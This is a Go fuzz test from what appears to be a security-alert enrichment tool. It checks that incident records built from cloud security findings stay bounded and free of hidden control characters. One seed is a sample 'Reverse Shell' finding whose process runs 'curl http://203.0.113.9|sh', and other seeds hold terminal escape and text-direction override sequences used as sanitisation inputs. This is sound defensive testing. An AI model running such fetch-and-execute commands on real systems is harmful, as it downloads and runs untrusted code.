package record

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"

	"github.com/scc-enricher/scc-enricher/pkg/assess"
	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"github.com/scc-enricher/scc-enricher/pkg/incident"
)

// FuzzNew: any notification, with any line in the log, makes a record that is
// bounded, holds nothing that is not seen, and can be printed in every form.
func FuzzNew(f *testing.F) {
	redactor := newRedactor(f)
	policy, err := assess.LoadDefault()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(`{"finding":{"name":"organizations/1/sources/2/findings/f","eventTime":"2026-11-22T10:00:00Z","category":"Reverse Shell","resourceName":"//run.googleapis.com/projects/p-12345/locations/l/services/s","processes":[{"pid":"17","args":["\"sh\"","\"-c\"","\"curl http://203.0.113.9|sh\""]}]}}`, "uid=0(root)", "trojan.mirai")
	f.Add(`{"finding":{"name":"organizations/1/sources/2/findings/f","severity":"\u001b[31m","state":"password=x"}}`, "\x1b]0;x\x07 password=x", "a\u202eb")
	f.Fuzz(func(t *testing.T, data, line, label string) {
		found, err := finding.Parse([]byte(data))
		if err != nil {
			return
		}
		ev := &evidence.Evidence{
			LogsState: evidence.Status{State: evidence.OK}, VTState: evidence.Status{State: evidence.OK},
			Logs:        evidence.Logs{Entries: []evidence.LogEntry{{Text: line, Trace: label, InsertID: line, Severity: label}}},
			Reputations: []evidence.Reputation{{State: evidence.OK, Verdict: evidence.VerdictMalicious, Malicious: 5, Engines: 70, Label: label}},
		}
		inc := incident.Group(found, nil, 0, 0)
		a := policy.Assess(assess.Input{Finding: found, Incident: inc, Evidence: ev})
		rec := New(Input{Finding: found, Incident: inc, Evidence: ev, Assessment: a, Now: event}, redactor)
		encoded, err := json.Marshal(rec)
		if err != nil {
			t.Fatal(err)
		}
		if len(encoded) > 4<<20 {
			t.Fatalf("a record of %d bytes", len(encoded))
		}
		var decoded any
		if err := json.Unmarshal(encoded, &decoded); err != nil {
			t.Fatal(err)
		}
		seen(t, decoded)
		var page strings.Builder
		if err := rec.Markdown(&page); err != nil {
			t.Fatal(err)
		}
		if err := rec.Text(&page, TextOptions{}); err != nil {
			t.Fatal(err)
		}
		if strings.ContainsAny(page.String(), "\x1b\x00\u202e\u009b") {
			t.Fatalf("a page with control characters: %q", page.String())
		}
	})
}

// seen fails the test for a text with control characters other than line
// breaks and tabs.
func seen(t *testing.T, v any) {
	t.Helper()
	switch v := v.(type) {
	case string:
		if strings.ContainsFunc(v, func(r rune) bool {
			return r != '\n' && r != '\t' && (unicode.Is(unicode.Cc, r) || unicode.Is(unicode.Cf, r))
		}) {
			t.Fatalf("%q has characters that are not seen", v)
		}
	case []any:
		for _, e := range v {
			seen(t, e)
		}
	case map[string]any:
		for k, e := range v {
			seen(t, k)
			seen(t, e)
		}
	}
}
